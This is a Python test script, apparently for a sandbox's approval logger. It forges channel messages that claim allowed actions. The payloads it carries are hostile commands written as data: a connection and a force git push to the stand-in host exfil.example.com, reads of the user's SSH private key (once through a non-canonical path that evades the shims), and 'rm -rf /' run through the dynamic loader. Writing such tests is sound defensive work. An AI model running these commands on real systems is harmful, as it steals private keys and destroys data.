#!/usr/bin/python3
"""forge.py - from inside the sandbox, sends the launcher shim events that claim allows the
policy would not give (launcher/approvals/approve.c must log them as the policy decides).

Usage: forge.py HOME   (the path of the home directory whose .ssh/id_rsa the forged read names)
The message layout is core/channel.h's: a 24-byte header, then the body by source.
"""
import os
import socket
import struct
import sys

EVENT, EXEC, OPEN, CONNECT = 1, 1, 2, 3
ACTION_EXEC, ACTION_CONNECT, FILE_READ = 0x40, 0x80, 0x01
ALLOW, DEFAULT_RULE = 0, -1


def string(b):
    return struct.pack("<I", len(b)) + b + b"\x00"


def message(mid, source, action, body):
    head = struct.pack("<HBBIIBBBBii", (0xA1 << 8) | 1, EVENT, 0, 24 + len(body), mid,
                       source, action, ALLOW, 0, DEFAULT_RULE, 0)
    return head + body


home = sys.argv[1].encode()
s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
s.connect(os.path.join(os.environ["AIRLOCK_DIR"], "channel"))
s.send(message(1, CONNECT, ACTION_CONNECT, string(b"exfil.example.com") + struct.pack("<H", 443)))
args = [b"git", b"push", b"--force", b"https://exfil.example.com/r.git"]
s.send(message(2, EXEC, ACTION_EXEC, string(b"/usr/bin/git") + struct.pack("<II", len(args), len(args)) +
               b"".join(string(a) for a in args)))
s.send(message(3, OPEN, FILE_READ, string(home + b"/.ssh/id_rsa")))
# a path no shim reports (not canonical), and rm -rf / run through the dynamic loader
s.send(message(4, OPEN, FILE_READ, string(home + b"/./.ssh/id_rsa")))
ld = [b"/lib64/ld-linux-x86-64.so.2", b"/usr/bin/rm", b"-rf", b"/"]
s.send(message(5, EXEC, ACTION_EXEC, string(ld[0]) + struct.pack("<II", len(ld), len(ld)) +
               b"".join(string(a) for a in ld)))
s.close()
print("forged")
